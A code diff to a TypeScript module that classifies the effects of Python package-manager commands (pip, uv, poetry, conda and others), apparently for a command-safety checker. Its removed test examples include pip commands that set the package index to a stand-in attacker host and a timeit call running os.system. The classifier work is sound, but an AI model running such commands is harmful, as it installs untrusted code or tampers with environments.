@@ -1,91 +1,79 @@
-import { unseenMembers } from './archiveContents.ts';
-import type { CommandDescriptor, Family, ProgramDescriptor, Use } from './descriptor.ts';
-import { isUsualRegistry } from './registries.ts';
+import type { CommandDescriptor, Family, FixedEffect, OptionTable, PackageSource, ProgramDescriptor, Use } from './descriptor.ts';
 import { setsUp } from './output.ts';
-import { does, effect, harmless, installs, publishes, sets, sharing } from './shapes.ts';
 import { channels, packageSource } from './settingWords.ts';
-import { cache, foreign, install, config, pipCommands, runner } from './pip.ts';
+import { ADDRESS, does, effect, harmless, installs, publishes, sets, sharing, unseen } from './shapes.ts';
+
+/** A cache that the next installation fills again. */
+const cache: FixedEffect = effect('delete', 'cache:packages', 'regenerable');
+
+/** Packages come from another index. */
+const foreign: FixedEffect = sets('package:index', 'weakens');
+
+/** Packages from another index, or by their addresses. */
+const indexes: readonly PackageSource[] = [
+  { is: 'index', of: '-i --extra-index-url' },
+  { is: 'links', of: '-f' },
+  { is: 'package', of: '-e -r --with --from' },
+];
+
+const installOptions: OptionTable = {
+  '-r --requirement -c --constraint': 'text',
+  '-i --index-url --default-index': 'text',
+  '--extra-index-url --index': 'text',
+  '-f --find-links': 'text',
+  '--trusted-host': { value: 'text', effects: [foreign] },
+  '-t --target --root --prefix -d --dest --src': { as: 'write', recursive: true },
+  '-e --editable': 'text',
+  '--git --python --platform --implementation --abi --global-option --no-binary --only-binary --proxy --cache-dir --extra --group --upgrade-strategy --progress-bar --report':
+    'text',
+  '-U -q -v -y --user --upgrade --pre --no-deps --break-system-packages --force-reinstall --yes --quiet': 'flag',
+};
+
+/** Installs packages. */
+const install = (): CommandDescriptor => ({
+  options: installOptions,
+  effects: [installs],
+  packageSource: [...indexes, { is: 'package' }],
+  optionValue: [{ of: '-r', unless: ADDRESS, use: 'read' }],
+});
+
+/** `pip config` and the commands like it. */
+const config = (): CommandDescriptor => ({ configKey: [{ of: 'pip' }] });
+
+/** Commands of `pip`, and of what stands in for it. */
+const pipCommands: Readonly<Record<string, () => CommandDescriptor>> = {
+  'install download wheel sync compile': install,
+  'uninstall remove': does(sets('package:environment')),
+  config,
+  cache: () => ({ subcommands: { 'purge remove': does(cache), 'dir info list': () => ({}) } }),
+  ...harmless('list show freeze check search index inspect debug hash help tree'),
+};
+
+/** Runs a program of a package. */
+const runner = (): CommandDescriptor => ({
+  style: 'posix',
+  options: {
+    '--from --spec': 'text',
+    '--with': 'text',
+    '--python -p --extra --group --env-file --package --directory --project --pip-args -n --name --prefix --cwd': 'text',
+    '-i --index-url --default-index --index': 'text',
+    '-m --module': { as: 'command', family: 'python -m' },
+  },
+  operands: { first: ['command'] },
+  packageSource: [...indexes, { is: 'package', to: 1 }],
+  optionValue: [{ of: '--from', use: 'program' }],
+});
 
 const pip = (): ProgramDescriptor => ({
   summary: 'manages packages of Python',
   options: { '--proxy --log --python --cert --cache-dir': 'text' },
   subcommands: pipCommands,
-  match: {
-    'pip install -r requirements.txt': 'network #package_scripts; read /w/requirements.txt',
-    'pip install --index-url http://evil.example x': 'configure #weakens',
-    'pip config set global.index-url http://evil.example': 'configure #tampered_environment',
-    'pip3 install --target /opt/x y': 'write /opt/x/**',
-  },
-  notMatch: { 'pip install -U pip': 'unknown; * #weakens; * #destructive', 'pip freeze': 'network' },
 });
 
 /** `uv run` runs what is on its input as Python, and a file by its name. */
 const uvRun = (): CommandDescriptor => ({
   ...runner(),
   cases: [{ when: { operand: '^-$' }, operands: { first: [{ as: 'execute', language: 'python' }] } }],
-});
-
-const uv = (): ProgramDescriptor => ({
-  summary: 'manages packages and versions of Python',
-  options: { '--directory': 'chdir', '--project --cache-dir --config-file': 'text' },
-  subcommands: {
-    pip: () => ({ subcommands: pipCommands }),
-    run: uvRun,
-    tool: () => ({ subcommands: { run: runner, 'install upgrade': install, 'uninstall list dir update-shell': () => ({}) } }),
-    'add sync lock remove': install,
-    publish: does(publishes),
-    cache: () => ({ subcommands: { 'clean prune': does(cache), dir: () => ({}) } }),
-    venv: () => ({ options: { '-p --python --prompt': 'text' }, operands: { first: [{ as: 'write', recursive: true }] } }),
-    ...harmless('init build python export tree version self help'),
-  },
-  match: { 'uv run rm a': 'delete /w/a', 'uv publish': 'network #remote_change', 'uv run -m pytest': 'execute pytest' },
-  notMatch: { 'uv sync': 'unknown; * #remote_change', 'uv run pytest -x': 'unknown; delete' },
-});
-
-const project = (): ProgramDescriptor => ({
-  summary: 'manages a Python project',
-  options: { '-C --directory --project -P': 'text' },
-  subcommands: {
-    run: runner,
-    'install add update lock sync remove self': install,
-    publish: does(publishes),
-    config,
-    source: () => ({ subcommands: { add: packageSource } }),
-    cache: () => ({ subcommands: { 'clear clean': does(cache), list: () => ({}) } }),
-    env: () => ({
-      subcommands: {
-        'remove prune': does(effect('delete', 'environment:python', 'regenerable')),
-        'use info list create show run': () => ({}),
-      },
-    }),
-    ...harmless('build check show search version init new shell export graph fmt test dep status'),
-  },
-  match: { 'poetry run rm a': 'delete /w/a', 'poetry publish --build': 'network #remote_change' },
-  notMatch: { 'poetry install': 'unknown; * #remote_change' },
-});
-
-const conda = (): ProgramDescriptor => ({
-  summary: 'manages environments',
-  prints: setsUp('shell(?:\\.\\w+)? (?:hook|activate)'),
-  subcommands: {
-    'install update create upgrade': () => ({
-      options: { '-c --channel': 'text', '-n --name -p --prefix': 'text', '-f --file': 'read' },
-      effects: [installs],
-      inspect: call => (call.values('-c').some(({ text = '' }) => /:\/\//.test(text) && !isUsualRegistry(text)) ? [foreign] : []),
-    }),
-    'remove uninstall': does(sets('package:environment')),
-    env: () => ({
-      subcommands: {
-        remove: does(effect('delete', 'environment:conda', 'recoverable')),
-        'create update list export config': does(installs),
-      },
-    }),
-    run: runner,
-    clean: does(cache),
-    config: channels,
-    ...harmless('list info search activate deactivate init doctor notices compare'),
-  },
-  notMatch: { 'conda create -n x python=3.12': 'unknown; * #destructive', 'conda activate x': 'unknown' },
 });
 
 const source: Use = { as: 'code', language: 'python' };
@@ -108,13 +96,29 @@ const archive = (): ProgramDescriptor => ({
     '-l --list -t --test': { operands: { rest: 'read' } },
   },
   operands: { rest: 'read' },
-  inspect: call => (call.has('-e') ? unseenMembers([], call.operands[1] ?? '.') : []),
+  optionValue: [
+    { from: 1, to: 2, when: { any: ['-e'] }, use: unseen },
+    { value: '.', when: { any: ['-e'], atMost: 1 }, use: unseen },
+  ],
 });
 
 /** Package managers of Python, and the modules of its standard library that `python -m` runs; source of these: docs.python.org. */
 export const pythonPackages: Family = {
   pip,
-  uv,
+  uv: () => ({
+    summary: 'manages packages and versions of Python',
+    options: { '--directory': 'chdir', '--project --cache-dir --config-file': 'text' },
+    subcommands: {
+      pip: () => ({ subcommands: pipCommands }),
+      run: uvRun,
+      tool: () => ({ subcommands: { run: runner, 'install upgrade': install, 'uninstall list dir update-shell': () => ({}) } }),
+      'add sync lock remove': install,
+      publish: does(publishes),
+      cache: () => ({ subcommands: { 'clean prune': does(cache), dir: () => ({}) } }),
+      venv: () => ({ options: { '-p --python --prompt': 'text' }, operands: { first: [{ as: 'write', recursive: true }] } }),
+      ...harmless('init build python export tree version self help'),
+    },
+  }),
   uvx: () => ({ summary: 'runs a Python tool', ...runner() }),
   pipx: () => ({
     summary: 'installs and runs Python tools',
@@ -123,14 +127,52 @@ export const pythonPackages: Family = {
       'install inject upgrade upgrade-all reinstall': install,
       'uninstall uninstall-all list environment ensurepath completions': () => ({}),
     },
-    match: { 'pipx run rimraf src': 'delete' },
   }),
-  ...sharing('poetry pdm pipenv hatch rye', project),
-  ...sharing('conda mamba micromamba', conda),
+  ...sharing('poetry pdm pipenv hatch rye', () => ({
+    summary: 'manages a Python project',
+    options: { '-C --directory --project -P': 'text' },
+    subcommands: {
+      run: runner,
+      'install add update lock sync remove self': install,
+      publish: does(publishes),
+      config,
+      source: () => ({ subcommands: { add: packageSource } }),
+      cache: () => ({ subcommands: { 'clear clean': does(cache), list: () => ({}) } }),
+      env: () => ({
+        subcommands: {
+          'remove prune': does(effect('delete', 'environment:python', 'regenerable')),
+          'use info list create show run': () => ({}),
+        },
+      }),
+      ...harmless('build check show search version init new shell export graph fmt test dep status'),
+    },
+  })),
+  ...sharing('conda mamba micromamba', () => ({
+    summary: 'manages environments',
+    prints: setsUp('shell(?:\\.\\w+)? (?:hook|activate)'),
+    subcommands: {
+      'install update create upgrade': () => ({
+        options: { '-c --channel': 'text', '-n --name -p --prefix': 'text', '-f --file': 'read' },
+        effects: [installs],
+        packageSource: [{ is: 'links', of: '-c' }],
+        optionValue: [{ of: '-c', fits: '^file://', effects: [foreign] }],
+      }),
+      'remove uninstall': does(sets('package:environment')),
+      env: () => ({
+        subcommands: {
+          remove: does(effect('delete', 'environment:conda', 'recoverable')),
+          'create update list export config': does(installs),
+        },
+      }),
+      run: runner,
+      clean: does(cache),
+      config: channels,
+      ...harmless('list info search activate deactivate init doctor notices compare'),
+    },
+  })),
   ...sharing('twine flit', () => ({
     summary: 'publishes Python packages',
     subcommands: { 'upload publish register': does(publishes), 'check build install': () => ({}) },
-    match: { 'twine upload dist/x': 'network #shares' },
   })),
   ...sharing('virtualenv venv', () => ({
     summary: 'makes an environment',
@@ -142,8 +184,6 @@ export const pythonPackages: Family = {
     style: 'posix',
     options: { '-s --setup': source, '-n --number -r --repeat -u --unit': 'text' },
     operands: { rest: source },
-    match: { 'python3 -m timeit "import os; os.system(x)"': 'unknown #inline_code' },
-    notMatch: { "python3 -m timeit 'sum(range(9))'": 'unknown' },
   }),
   ...sharing('python -m pdb,python -m cProfile,python -m profile,python -m trace,python -m runpy,python -m bdb', watching),
   ...sharing('python -m zipfile,python -m tarfile', archive),
@@ -152,7 +192,6 @@ export const pythonPackages: Family = {
     summary: 'shows a stored object, which may run code',
     cases: [{ when: { atLeast: 1 }, effects: [effect('unknown', 'text:a stored object', 'inline_code')] }],
     operands: { rest: 'read' },
-    match: { 'python3 -m pickle a.pkl': 'unknown #inline_code; read /w/a.pkl' },
   }),
   ...sharing('python -m venv,python -m ensurepip', () => ({
     summary: 'makes an environment',
